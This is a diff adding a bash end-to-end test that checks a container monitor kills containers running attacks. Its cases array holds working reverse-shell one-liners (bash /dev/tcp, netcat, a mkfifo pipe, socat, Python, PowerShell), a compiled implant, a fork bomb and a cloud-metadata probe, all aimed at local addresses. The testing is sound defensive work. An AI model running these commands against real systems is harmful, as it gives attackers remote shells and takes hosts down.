@@ -1,0 +1,47 @@
+#!/bin/bash
+# SPDX-License-Identifier: MIT
+# Every CRITICAL rule, against a real container watched by a real detached monitor: the container
+# is stopped and deleted (nothing left, not even its cgroup), the audit line names the rule with
+# action "killed", and the supervisor exits by itself. Network traffic stays on this machine:
+# the bridge address, or addresses the container puts on its own loopback.
+. "$(dirname "$0")/monitor-lib.sh"
+
+# A compiled reverse shell whose command line gives nothing away (revshell-stdio).
+implant="$COI_HOME/implant"
+cc -static -O1 -o "$implant" "$T_ROOT/tests/e2e/monitor-implant.c" || t_bail "cannot build the implant"
+
+# name ^ script the agent runs ^ rule. Busybox's sh has no /dev/tcp, so that attack fails at once
+# and its shell would be gone before anyone could read its command line; in bash it lives as long
+# as its connection. The `; sleep 1` stands in for that life.
+cases=(
+    "devtcp^sh -i >& /dev/tcp/$GW/4444 0>&1; sleep 1^revshell-devtcp"
+    "netcat^(sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; nc -e /bin/sh 127.0.0.1 4444^revshell-netcat"
+    "pipe^rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc $GW 4444 >/tmp/f^revshell-pipe"
+    "socat^socat TCP:$GW:4444 EXEC:/bin/sh,pty,stderr^revshell-socat"
+    "python^python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$GW\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'^revshell-oneliner"
+    "pwsh^pwsh -c \"\$c=New-Object System.Net.Sockets.TCPClient('$GW',4444)\"^revshell-powershell"
+    "implant^(sleep 5 | nc -l -p 9000 >/dev/null &); usleep 300000; /tmp/implant 9000^revshell-stdio"
+    "forkbomb^f() { f | f & }; f^proc-spawn"
+    "count^i=0; while [ \$i -lt 40 ]; do sleep 30 & i=\$((i+1)); usleep 50000; done; wait^proc-count"
+    "c2port^ip addr add 198.51.100.7/32 dev lo; (sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; sleep 4 | nc 198.51.100.7 4444^net-c2-port"
+    "metadata^ip addr add 169.254.169.254/32 dev lo; (sleep 5 | nc -l -p 80 >/dev/null &); usleep 300000; sleep 4 | nc 169.254.169.254 80^net-metadata"
+)
+
+for case in "${cases[@]}"; do
+    IFS='^' read -r what script rule <<<"$case"
+    c=$(t_name monitor)
+    m_launch "$c" || t_bail "cannot launch $c"
+    opts=()
+    [ "$what" = count ] && opts=(--max-processes 30)
+    [ "$what" = implant ] && incus file push -q "$implant" "$c/tmp/implant" --mode 0755
+    t_ok "$what: monitor starts" m_monitor "$c" "${opts[@]}"
+    m_run "$c" "$script"
+    t_ok "$what: the container is gone" m_wait_state "$c" ""
+    t_fails "$what: no cgroup left" test -d "/sys/fs/cgroup/pids/lxc.payload.$c"
+    line=$(m_wait_rule "$c" "$rule")
+    t_like "$what: audit line $rule, killed" "$line" '"level":"critical".*"action":"killed"'
+    t_ok "$what: the supervisor ended by itself" m_supervisor_gone "$c"
+    t_diag "$what: frozen $(printf '%s' "$line" | jq -r '"\(.contained_ms) ms, gone \(.response_ms) ms: \(.description)"')"
+done
+
+t_done
